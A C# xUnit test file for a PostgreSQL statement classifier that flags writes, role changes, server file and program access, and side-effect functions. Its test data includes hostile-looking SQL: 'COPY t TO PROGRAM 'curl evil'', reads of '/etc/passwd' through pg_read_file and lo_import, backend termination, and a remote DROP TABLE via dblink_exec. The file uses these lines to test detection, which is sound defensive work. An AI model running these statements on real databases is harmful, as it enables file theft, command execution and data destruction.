using Rose.Core.Sql;

namespace Rose.Core.Tests.Sql;

/// <summary>Operations, tags and flags of single statements, through the real parser.</summary>
public sealed class ClassifierOperationsTests
{
    private static readonly PgQueryClassifier Classifier = new();

    private static SqlStatement Single(string sql)
    {
        var batch = Classifier.Classify(sql);
        Assert.True(batch.Statements.Count == 1, $"expected one statement in «{sql}», got {batch.Statements.Count}");
        return batch.Statements[0];
    }

    public static TheoryData<string, string, string[]> OperationCases => new()
    {
        { "SELECT 1", "SELECT", ["SELECT"] },
        { "TABLE t", "SELECT", ["SELECT"] },
        { "VALUES (1), (2)", "SELECT", ["SELECT"] },
        { "INSERT INTO t VALUES (1)", "INSERT", ["INSERT"] },
        { "UPDATE t SET a = 1 WHERE id = 2", "UPDATE", ["UPDATE"] },
        { "DELETE FROM t WHERE id = 2", "DELETE", ["DELETE"] },
        { "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "MERGE", ["MERGE"] },
        // Data-modifying CTEs, at any depth.
        { "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "SELECT", ["SELECT", "DELETE"] },
        { "WITH a AS (WITH b AS (UPDATE t SET x = 1 RETURNING *) SELECT * FROM b) SELECT * FROM a", "SELECT", ["SELECT", "UPDATE"] },
        { "SELECT * FROM (WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i) s", "SELECT", ["SELECT", "INSERT"] },
        { "INSERT INTO log WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "INSERT", ["INSERT", "DELETE"] },
        // EXPLAIN: only ANALYZE runs the statement.
        { "EXPLAIN (ANALYZE) DELETE FROM t", "EXPLAIN", ["EXPLAIN", "DELETE"] },
        { "EXPLAIN ANALYZE DELETE FROM t", "EXPLAIN", ["EXPLAIN", "DELETE"] },
        { "EXPLAIN (ANALYZE false) DELETE FROM t", "EXPLAIN", ["EXPLAIN"] },
        { "EXPLAIN DELETE FROM t", "EXPLAIN", ["EXPLAIN"] },
        { "EXPLAIN SELECT pg_terminate_backend(1)", "EXPLAIN", ["EXPLAIN", "FUNCTION pg_terminate_backend"] },
        // PREPARE bodies, cursors, COPY queries.
        { "PREPARE p AS DELETE FROM t WHERE id = $1", "PREPARE", ["PREPARE", "DELETE"] },
        { "PREPARE p AS SELECT 1", "PREPARE", ["PREPARE", "SELECT"] },
        { "EXECUTE p(1)", "EXECUTE", ["EXECUTE"] },
        { "COPY (DELETE FROM t RETURNING *) TO STDOUT", "COPY", ["COPY", "DELETE"] },
        // SELECT INTO and CREATE TABLE AS create tables.
        { "SELECT * INTO t2 FROM t", "SELECT INTO", ["SELECT INTO", "CREATE TABLE AS"] },
        { "CREATE TABLE t2 AS SELECT * FROM t", "CREATE TABLE AS", ["CREATE TABLE AS", "SELECT"] },
        { "CREATE MATERIALIZED VIEW mv AS SELECT 1", "CREATE MATERIALIZED VIEW", ["CREATE MATERIALIZED VIEW", "SELECT"] },
        // Row locks.
        { "SELECT * FROM t FOR UPDATE", "SELECT", ["SELECT", "LOCK ROWS"] },
        { "SELECT * FROM t FOR NO KEY UPDATE", "SELECT", ["SELECT", "LOCK ROWS"] },
        { "SELECT * FROM t FOR SHARE", "SELECT", ["SELECT", "LOCK ROWS"] },
        { "SELECT * FROM t FOR KEY SHARE", "SELECT", ["SELECT", "LOCK ROWS"] },
        { "SELECT * FROM (SELECT * FROM t FOR UPDATE) s", "SELECT", ["SELECT", "LOCK ROWS"] },
        // Rules carry their actions.
        { "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", "CREATE RULE", ["CREATE RULE", "DELETE"] },
        // COPY to and from the server.
        { "COPY t TO PROGRAM 'curl evil'", "COPY", ["COPY", "SERVER PROGRAM"] },
        { "COPY t FROM '/etc/passwd'", "COPY", ["COPY", "SERVER FILE"] },
        { "COPY t FROM STDIN", "COPY", ["COPY"] },
        { "COPY t TO STDOUT", "COPY", ["COPY"] },
        // Session identity.
        { "SET ROLE admin", "SET", ["SET", "SET ROLE"] },
        { "SET LOCAL ROLE admin", "SET", ["SET", "SET ROLE"] },
        { "RESET ROLE", "RESET", ["RESET", "SET ROLE"] },
        { "SET SESSION AUTHORIZATION admin", "SET", ["SET", "SET SESSION AUTHORIZATION"] },
        { "SET search_path = x", "SET", ["SET"] },
        { "SELECT set_config('role', 'admin', false)", "SELECT", ["SELECT", "FUNCTION set_config"] },
        // Procedural code.
        { "DO $$BEGIN PERFORM 1; END$$", "DO", ["DO"] },
        { "CALL p(1)", "CALL", ["CALL"] },
        { "CALL p(pg_terminate_backend(1))", "CALL", ["CALL", "FUNCTION pg_terminate_backend"] },
        { "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "CREATE FUNCTION", ["CREATE FUNCTION"] },
        { "CREATE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'", "CREATE PROCEDURE", ["CREATE PROCEDURE"] },
    };

    [Theory]
    [MemberData(nameof(OperationCases))]
    public void Classify_Statement_HasTagAndOperations(string sql, string tag, string[] operations)
    {
        var statement = Single(sql);
        Assert.Equal(tag, statement.Tag);
        Assert.Equal(operations, statement.Operations);
        Assert.Null(statement.Error);
    }

    public static TheoryData<string, string> FunctionCases => new()
    {
        { "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "pg_terminate_backend" },
        { "SELECT 1 WHERE pg_cancel_backend(1)", "pg_cancel_backend" },
        { "SELECT * FROM pg_read_file('/etc/passwd')", "pg_read_file" },
        { "SELECT * FROM ROWS FROM (pg_ls_dir('.'))", "pg_ls_dir" },
        { "SELECT (SELECT lo_import('/etc/passwd'))", "lo_import" },
        { "WITH x AS (SELECT pg_reload_conf()) SELECT * FROM x", "pg_reload_conf" },
        { "VALUES (nextval('s'))", "nextval" },
        { "INSERT INTO t VALUES (setval('s', 1))", "setval" },
        { "CREATE TABLE t (id int DEFAULT nextval('s'))", "nextval" },
        { "ALTER TABLE t ALTER COLUMN id SET DEFAULT nextval('s')", "nextval" },
        { "CREATE TABLE t (a int CHECK (pg_advisory_lock(1) IS NOT NULL))", "pg_advisory_lock" },
        { "CREATE INDEX i ON t ((pg_sleep(1)))", "pg_sleep" },
        { "SELECT coalesce(upper(pg_read_binary_file('x')::text), '')", "pg_read_binary_file" },
        { "SELECT pg_catalog.pg_sleep(1)", "pg_sleep" },
        { "SELECT \"pg_catalog\".\"pg_read_file\"('x')", "pg_read_file" },
        { "SELECT \"pg_sleep\"(1)", "pg_sleep" },
        { "SELECT PG_SLEEP(1)", "pg_sleep" },
        { "SELECT public.dblink_exec('host=x', 'DROP TABLE t')", "dblink_exec" },
        { "SELECT dblink('host=x', 'SELECT 1')", "dblink" },
        { "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')", "query_to_xml" },
        { "SELECT pg_notify('c', 'x')", "pg_notify" },
        { "SELECT txid_current()", "txid_current" },
        { "SELECT pg_stat_reset()", "pg_stat_reset" },
        { "SELECT pg_try_advisory_xact_lock(1)", "pg_try_advisory_xact_lock" },
        { "SELECT lo_unlink(1)", "lo_unlink" },
        { "SELECT pg_create_logical_replication_slot('s', 'pgoutput')", "pg_create_logical_replication_slot" },
        { "SELECT pg_replication_origin_create('o')", "pg_replication_origin_create" },

        // Reviewed against PostgreSQL 16 and 17.
        { "SELECT pg_sync_replication_slots()", "pg_sync_replication_slots" },
        { "SELECT pg_log_standby_snapshot()", "pg_log_standby_snapshot" },
        { "SELECT pg_stat_reset_slru('Xact')", "pg_stat_reset_slru" },
        { "SELECT pg_stat_reset_shared('io')", "pg_stat_reset_shared" },
        { "SELECT pg_stat_reset_shared(NULL)", "pg_stat_reset_shared" },
        { "SELECT pg_stat_reset_replication_slot(NULL)", "pg_stat_reset_replication_slot" },
        { "SELECT pg_stat_reset_subscription_stats(NULL)", "pg_stat_reset_subscription_stats" },
        { "SELECT pg_stat_force_next_flush()", "pg_stat_force_next_flush" },
        { "SELECT * FROM pg_available_wal_summaries()", "pg_available_wal_summaries" },
        { "SELECT * FROM pg_wal_summary_contents(1, '0/0', '0/1')", "pg_wal_summary_contents" },
        { "SELECT * FROM pg_get_wal_summarizer_state()", "pg_get_wal_summarizer_state" },
        { "SELECT pg_logical_emit_message(true, 'p', 'c', true)", "pg_logical_emit_message" },
        { "SELECT pg_log_backend_memory_contexts(pg_backend_pid())", "pg_log_backend_memory_contexts" },
        { "SELECT pg_copy_logical_replication_slot('a', 'b')", "pg_copy_logical_replication_slot" },
        { "SELECT ext.heap_force_kill('t'::regclass, ARRAY['(0,1)']::tid[])", "heap_force_kill" },
    };

    [Theory]
    [MemberData(nameof(FunctionCases))]
    public void Classify_SideEffectFunctionAnywhere_AddsFunctionOperation(string sql, string function)
    {
        var statement = Single(sql);
        Assert.Contains(SqlOperations.FunctionPrefix + function, statement.Operations);
    }

    [Theory]
    [InlineData("SELECT \"PG_SLEEP\"(1)")]                 // quoting keeps case: not the built-in
    [InlineData("SELECT myschema.pg_sleep(1)")]            // another schema's function
    [InlineData("SELECT \"PG_CATALOG\".pg_sleep(1)")]      // a schema named PG_CATALOG is not pg_catalog
    [InlineData("SELECT currval('s'), lower('x'), now()")] // reads only
    [InlineData("SELECT 'pg_sleep(1)'")]                   // a string, not a call
    public void Classify_NotTheBuiltIn_NoFunctionOperation(string sql)
    {
        var statement = Single(sql);
        Assert.DoesNotContain(statement.Operations, o => o.StartsWith(SqlOperations.FunctionPrefix, StringComparison.Ordinal));
        Assert.False(statement.Writes);
        Assert.Equal(StatementKind.Read, statement.Kind);
    }

    [Fact]
    public void Classify_SideEffectFunctionInRead_WritesAndUtility()
    {
        var statement = Single("SELECT pg_terminate_backend(1)");
        Assert.True(statement.Writes);
        Assert.Equal(StatementKind.Utility, statement.Kind);
    }

    [Fact]
    public void Classify_PgSleep_NotAWrite()
    {
        var statement = Single("SELECT pg_sleep(1)");
        Assert.Equal(["SELECT", "FUNCTION pg_sleep"], statement.Operations);
        Assert.False(statement.Writes);
    }

    [Fact]
    public void Classify_RepeatedOperations_DistinctInParseTreeOrder()
    {
        var statement = Single("WITH a AS (DELETE FROM t RETURNING *), b AS (INSERT INTO u SELECT nextval('s') RETURNING *), c AS (DELETE FROM v RETURNING *) SELECT nextval('s')");
        // The walk follows the parse tree: the target list comes before the WITH clause.
        Assert.Equal(["SELECT", "FUNCTION nextval", "DELETE", "INSERT"], statement.Operations);
    }
}
